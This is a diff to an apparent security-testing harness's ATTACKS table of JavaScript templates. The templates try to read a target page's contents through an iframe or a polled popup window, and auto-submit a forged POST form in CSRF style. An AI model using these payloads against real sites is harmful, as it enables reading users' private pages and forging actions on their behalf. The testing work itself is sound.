@@ -524,8 +524,11 @@ ATTACKS = {
     "frame": """new Promise(done => {{ const f = document.createElement('iframe'); f.src = '{question}';
         f.onload = () => {{ try {{ done((GRAB)(f.contentDocument)) }} catch {{ done('nothing') }} }};
         document.body.append(f); }})""",
-    "window": """new Promise(done => {{ const w = window.open('{question}');
-        setTimeout(() => {{ try {{ done((GRAB)(w && w.document)) }} catch {{ done('nothing') }} }}, 1500); }})""",
+    "window": """new Promise(done => {{ const w = window.open('{question}'), end = Date.now() + 1500;
+        const look = () => {{ let got = 'nothing'; try {{ got = (GRAB)(w && w.document) }} catch {{ }}
+          const over = got !== 'nothing' || !w || w.closed || Date.now() > end;  // what was let go reads as closed
+          over ? done(got) : setTimeout(look, 50); }};
+        look(); }})""",
     "form": """new Promise(done => {{ const f = document.createElement('form'); f.method = 'post'; f.action = '{act}';
         for (const [n, v] of [['server', 'exp'], ['confirm', 'x']]) {{ const i = document.createElement('input');
           i.name = n; i.value = v; f.append(i); }}
